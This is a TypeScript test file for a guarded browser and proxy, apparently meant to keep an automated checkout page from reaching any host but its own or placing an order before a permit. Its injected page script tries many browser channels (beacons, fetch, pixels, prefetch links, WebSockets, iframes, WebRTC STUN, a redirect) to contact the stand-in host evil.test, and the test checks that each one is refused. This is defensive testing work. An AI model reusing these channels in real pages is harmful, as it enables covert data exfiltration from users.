/** The gate and the proxy with an https site: tunnels cannot be inspected, so none may lead elsewhere. */
import { execFileSync } from 'node:child_process';
import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import { createServer } from 'node:https';
import { type AddressInfo, connect as connectTcp, createServer as createTcpServer } from 'node:net';
import test, { type ExecutionContext } from 'ava';
import { Gate, type LoggedRequest } from '../../server/broker/gate.ts';
import { allowed } from '../../server/broker/places.ts';
import { openGuardedBrowser } from '../../server/outside/browser/launch.ts';
import { until } from '../until.ts';

const origin = 'https://camp.test';
const foreign = ['evil.test', 'pay.evil.test'];

/** A key and a self-signed certificate. */
function selfSigned(): string {
  const words =
    'req -x509 -newkey ec -pkeyopt ec_paramgen_curve:P-256 -nodes -keyout - -out - -days 2 -subj /CN=camp.test';
  return execFileSync('openssl', words.split(' '), { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'] });
}

/** Every way to contact another host or port, or to send the order, as soon as the page is loaded. */
const eager = (udpPort: number) => `
  const hosts = ['https://evil.test', 'https://pay.evil.test', 'https://camp.test:8443', 'http://camp.test'];
  const add = (name, more) => document.head.append(Object.assign(document.createElement(name), more));
  for (const host of hosts) {
    navigator.sendBeacon(host + '/beacon', 'x');
    fetch(host + '/fetch', { method: 'POST', body: 'x', mode: 'no-cors', keepalive: true }).catch(() => {});
    new Image().src = host + '/pixel';
    for (const rel of ['dns-prefetch', 'preconnect', 'prefetch', 'prerender', 'stylesheet', 'manifest'])
      add('link', { rel, href: host + '/' + rel });
    add('script', { src: host + '/script' });
    new EventSource(host + '/events');
    try { new WebSocket(host.replace('http', 'ws') + '/socket'); } catch {}
    const frame = document.createElement('iframe');
    frame.src = host + '/frame';
    document.body.append(frame);
    window.open(host + '/popup');
  }
  new WebSocket('wss://camp.test/socket');
  for (const path of ['/order', '/leads-away'])
    fetch(path, { method: 'POST', body: 'x' }).catch(() => {});
  fetch('/leads-away').catch(() => {});
  navigator.sendBeacon('/order', 'x');
  const peer = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${udpPort}' }] });
  peer.createDataChannel('x');
  peer.createOffer().then((offer) => peer.setLocalDescription(offer));
  setTimeout(() => { location.href = 'https://evil.test/gone'; }, 50);
  setTimeout(() => { document.title = 'tried'; }, 1000);`;

const html = (script: string) => `<!doctype html><title>Checkout</title><body>
  <form method="post" action="/order"><button>Place order</button></form><script>${script}</script>`;

/** The site, a forbidden host, and a datagram socket; each reports what arrived. */
async function openSites(t: ExecutionContext) {
  const pem = selfSigned();
  const asked: string[] = [];
  const strays: string[] = [];
  const datagrams = createSocket('udp4', () => strays.push('a datagram'));
  datagrams.bind(0, '127.0.0.1');
  await once(datagrams, 'listening');
  const camp = createServer({ key: pem, cert: pem }, (request, response) => {
    asked.push(`${request.method} ${request.url}`);
    if (request.url === '/leads-away') response.writeHead(302, { location: 'https://evil.test/redirected' }).end();
    else if (request.method === 'POST') response.writeHead(303, { location: '/receipt' }).end();
    else
      response
        .writeHead(200, { 'content-type': 'text/html' })
        .end(html(request.url === '/' ? eager(datagrams.address().port) : ''));
  });
  camp.on('upgrade', (request, socket) => {
    asked.push(`UPGRADE ${request.url}`);
    socket.destroy();
  });
  const elsewhere = createTcpServer((socket) => {
    strays.push('a connection');
    socket.destroy();
  });
  for (const server of [camp, elsewhere]) {
    server.listen(0, '127.0.0.1');
    await once(server, 'listening');
  }
  t.teardown(() => {
    datagrams.close();
    camp.closeAllConnections();
    camp.close();
    elsewhere.close();
  });
  const portOf = (server: typeof elsewhere) => (server.address() as AddressInfo).port;
  return { asked, strays, campPort: portOf(camp), elsewherePort: portOf(elsewhere) };
}

test('a page that is https reaches its own host and port alone, and orders once, after its permit', async (t) => {
  const { asked, strays, campPort, elsewherePort } = await openSites(t);
  const connected: string[] = [];
  const requests: LoggedRequest[] = [];
  const gate = new Gate({ origins: new Set([origin]), answerMs: 15_000, log: (request) => requests.push(request) });
  const opened = await openGuardedBrowser({
    connect: allowed([origin], async (host, port) => {
      connected.push(`${host}:${port}`);
      const socket = connectTcp(host === 'camp.test' && port === 443 ? campPort : elsewherePort, '127.0.0.1');
      await once(socket, 'connect');
      return socket;
    }),
    methods: ['GET', 'HEAD', 'OPTIONS'],
    onBlocked: (host, port) => gate.blocked(host, port),
  });
  t.teardown(() => opened.close());
  const context = await opened.browser.newContext({ ignoreHTTPSErrors: true, serviceWorkers: 'block' });
  const page = await context.newPage();
  await gate.guard(context, page);
  await gate.during(1, () => page.goto(`${origin}/`, { waitUntil: 'commit' }));
  await until('the page has tried all', async () => (await page.title()) === 'tried', 50);

  t.deepEqual(
    asked.filter((line) => !line.startsWith('GET ')),
    [],
    'nothing but reading left before the permit',
  );
  t.true(asked.includes('GET /'), 'control: it was read');
  t.deepEqual([...new Set(connected)], ['camp.test:443']);
  t.deepEqual(strays, []);
  const refused = (of: string) => requests.filter((request) => request.origin === of && request.status === null);
  for (const host of [...foreign.map((name) => `https://${name}`), 'https://camp.test:8443'])
    t.true(refused(host).length > 0, `control: it tried ${host}`);
  t.true(
    requests.some(({ path, note }) => path === '/order' && note === 'no permit'),
    'control: it tried to order',
  );
  t.is(gate.foreign, 'https://evil.test');

  gate.permitOrder();
  await page.getByRole('button').click();
  t.deepEqual(await gate.orderAnswer, { status: 303 });
  await until('the receipt is read', () => asked.includes('GET /receipt'), 50);
  t.deepEqual(
    asked.filter((line) => line.startsWith('POST')),
    ['POST /order'],
  );
  await page.evaluate(() => fetch('/order', { method: 'POST', body: 'again' }).catch(() => null));
  t.deepEqual(
    asked.filter((line) => line.startsWith('POST')),
    ['POST /order'],
    'and no second time',
  );
  t.deepEqual([...new Set(connected)], ['camp.test:443']);
  t.deepEqual(strays, []);
});
